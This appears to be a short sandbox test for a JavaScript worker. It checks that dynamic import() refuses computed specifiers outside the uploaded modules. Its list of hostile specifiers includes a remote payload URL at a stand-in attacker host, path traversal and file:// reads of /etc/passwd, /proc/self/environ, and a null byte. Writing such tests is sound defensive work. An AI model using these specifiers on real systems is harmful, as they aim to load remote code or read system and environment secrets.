// import() with computed specifiers reaches only the uploaded modules and the runtime's built-ins.
export default { async fetch() {
  const specifiers = ["https://evil.example/payload.js", "../../../../etc/passwd", "file:///etc/passwd",
    "/proc/self/environ", "java:lang.Runtime", "\0", "./worker.js/../../x.js"];
  let refused = 0;
  const out = [];
  for (const s of specifiers) {
    try {
      out.push(`${s} imported: ${Object.keys(await import(s))}`);
    } catch (e) {
      if (e.message.startsWith(`No such module "${s}"`)) refused++;
      out.push(`${e.name}: ${e.message}`);
    }
  }
  return new Response(`refused ${refused} of ${specifiers.length}\n${out.join("\n")}`);
} };
